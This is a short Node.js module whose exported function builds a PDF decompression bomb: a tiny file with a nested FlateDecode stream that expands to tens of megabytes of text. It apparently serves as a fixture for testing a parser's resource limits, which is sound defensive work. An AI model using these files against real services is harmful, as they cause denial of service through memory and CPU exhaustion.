// PDFs of some kilobytes that unpack to what no machine should unpack.
import { deflateSync } from 'node:zlib';

const megabyte = 1024 * 1024;

/** One page, whose content is of so many megabytes, deflated so many times over. */
export function bomb(megabytes = 60, times = 1) {
	const line = `(${'a'.repeat(110)}) Tj T*\n`;
	let content = Buffer.from(`BT /F 8 Tf 10 TL 20 780 Td\n${line.repeat(Math.ceil((megabytes * megabyte) / line.length))}ET`);
	for (let i = 0; i < times; i++) content = deflateSync(content, { level: 9 });
	const filters = Array.from({ length: times }, () => '/FlateDecode').join(' ');
	const objects = [
		'<< /Type /Catalog /Pages 2 0 R >>',
		'<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
		'<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>',
		'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1200 800] /Contents 5 0 R /Resources << /Font << /F 3 0 R >> >> >>',
		`<< /Filter [${filters}] /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`,
	];
	let body = '%PDF-1.7\n';
	const places = objects.map((object, index) => {
		const at = body.length;
		body += `${index + 1} 0 obj\n${object}\nendobj\n`;
		return at;
	});
	const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
	const end = `xref\n0 6\n0000000000 65535 f \n${table}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
	return Buffer.from(body + end, 'latin1');
}
